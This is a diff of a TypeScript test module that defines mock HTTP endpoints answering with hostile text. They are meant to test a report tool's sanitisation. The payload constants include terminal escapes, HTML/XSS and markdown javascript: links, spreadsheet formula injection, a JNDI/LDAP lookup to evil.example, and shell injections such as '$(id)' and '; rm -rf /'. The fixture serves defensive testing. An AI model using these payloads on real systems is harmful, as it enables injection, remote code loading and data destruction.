@@ -1,15 +1,15 @@
 /**
- * Endpoints whose words are hostile: to terminals, browsers, XML, spreadsheets, CI and the people who read a report. They
- * accept everything, so that each answer is in the report.
+ * Endpoints whose texts are hostile to terminals, browsers, XML, spreadsheets, CI and readers of a report. They accept
+ * everything, so that each answer is in the report.
  */
 import { createServer } from 'node:net';
 import { listen } from '../../../endpoints/listen.ts';
 import { answer, type Behaviour, onRequest, onRequests } from '../behaviour.ts';
 
-/** The words in every place that an answer has: reason, name and value of a header, redirect, body. */
-function saying(name: string, what: string, words: string | Buffer, status = 200): Behaviour {
-  const bytes = Buffer.from(words as string);
-  // A head with control characters is no HTTP, and would not be read at all.
+/** Puts the text into the reason, the headers, the redirect and the body of an answer. */
+function saying(name: string, what: string, text: string | Buffer, status = 200): Behaviour {
+  const bytes = Buffer.from(text as string);
+  // A head with control characters is not HTTP, and would not be read.
   const line = Buffer.from(bytes.toString('latin1').replace(/[\x00-\x1f\x7f]+/g, ' '), 'latin1');
   const answered = Buffer.concat([
     Buffer.from(`HTTP/1.1 ${status} `),
@@ -29,7 +29,8 @@ function saying(name: string, what: string, words: string | Buffer, status = 200
 }
 
 const ANSI =
-  '\x1b[2J\x1b[1;31mPASSED\x1b[0m\x1b]0;title\x07\x1b]8;;http://evil.example\x07link\x1b]8;;\x07\x9b31m\x1bP+q\x1b\\\x08\x08\x7f';
+  '\x1b[2J\x1b[1;31mPASSED\x1b[0m\x1b]0;title\x07\x1b]8;;http://evil.example\x07link\x1b]8;;\x07' +
+  '\x9b31m\x1bP+q\x1b\\\x08\x08\x7f';
 const HTML =
   '</pre></td><script>alert(1)</script><img src=x onerror=alert(2)><svg/onload=alert(3)>&lt;<!--"\'`><base href=//evil.example>';
 const XML =
@@ -43,7 +44,7 @@ const CI =
 const MARKDOWN =
   '|a|b|\n|-|-|\n[x](javascript:alert(1)) ![i](http://evil.example/i.png) <details open> `` ` `` ** __ @everyone\n# heading\n```\nfence';
 const CSV = '=HYPERLINK("http://evil.example";"x")\n+1+1\n-2+3\n@SUM(A1)\n\t=1\n"quoted", \'';
-// biome-ignore lint/suspicious/noTemplateCurlyInString: the braces are for somebody else's templates
+// biome-ignore lint/suspicious/noTemplateCurlyInString: an attack on other template engines
 const LOGS = '${jndi:ldap://evil.example/a} %n%s%x {{7*7}} ${7*7} $(id) `id` ; rm -rf / \'"';
 
 /** Sends back everything it received; no report may contain the credentials. */
@@ -76,17 +77,17 @@ const echo: Behaviour = {
 };
 
 export const TEXTS: readonly Behaviour[] = [
-  saying('says-ansi', 'speaks in ANSI escapes: colours, cursor, window title, links', ANSI),
-  saying('says-html', 'speaks HTML with scripts', HTML),
+  saying('says-ansi', 'answers ANSI escapes: colours, cursor, window title, links', ANSI),
+  saying('says-html', 'answers HTML with scripts', HTML),
   saying('says-xml', 'answers XML that closes the surrounding element, and an entity', XML),
-  saying('says-bidi', 'speaks in directional overrides, zero-width and invisible characters', BIDI),
-  saying('says-emoji', 'speaks in joined emoji, wide characters and heaps of marks', EMOJI),
+  saying('says-bidi', 'answers directional overrides, zero-width and invisible characters', BIDI),
+  saying('says-emoji', 'answers joined emoji, wide characters and many combining marks', EMOJI),
   saying('says-bad-utf8', 'answers bytes that are not UTF-8', BAD_UTF8),
-  saying('says-controls', 'speaks in every control character', CONTROLS),
-  saying('says-workflow-commands', 'speaks the commands of CI systems', CI),
-  saying('says-markdown', 'speaks Markdown', MARKDOWN),
-  saying('says-formulas', 'speaks the formulas of spreadsheets', CSV),
-  saying('says-templates', 'speaks in the templates of loggers, shells and engines', LOGS),
+  saying('says-controls', 'answers every control character', CONTROLS),
+  saying('says-workflow-commands', 'answers the commands of CI systems', CI),
+  saying('says-markdown', 'answers Markdown', MARKDOWN),
+  saying('says-formulas', 'answers spreadsheet formulas', CSV),
+  saying('says-templates', 'answers templates of loggers, shells and template engines', LOGS),
   saying('fails-with-words', 'answers 500 in ANSI, HTML and XML at once', `${ANSI}${HTML}${XML}${CI}`, 500),
   saying('redirects-with-words', 'redirects to HTML, ANSI and directional overrides', `${HTML}${ANSI}${BIDI}`, 302),
   echo,
